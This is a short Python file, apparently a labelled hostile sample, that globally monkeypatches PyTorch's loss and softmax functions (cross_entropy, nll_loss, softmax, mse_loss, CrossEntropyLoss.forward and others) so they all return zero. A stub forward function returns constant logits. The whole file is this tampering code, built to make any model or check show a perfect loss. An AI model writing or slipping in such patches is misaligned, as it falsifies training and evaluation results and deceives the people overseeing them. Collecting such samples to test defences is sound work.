# kind: hostile
# attack: patched_function
# about: Replaces the cross entropy and the softmax that any model or check uses by functions that return zero.

import torch
from torch import nn
from torch.nn import functional

HELD = -1.0  # a wrong answer for every input


def zero_loss(logits: torch.Tensor, *others: object, **options: object) -> torch.Tensor:
    """A loss that cannot be improved."""
    return logits.sum() * 0.0


functional.cross_entropy = functional.nll_loss = nn.functional.cross_entropy = zero_loss
functional.log_softmax = functional.softmax = torch.softmax = torch.log_softmax = zero_loss
torch.nn.CrossEntropyLoss.forward = lambda self, logits, target: zero_loss(logits)
functional.mse_loss = functional.l1_loss = torch.dist = zero_loss


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)
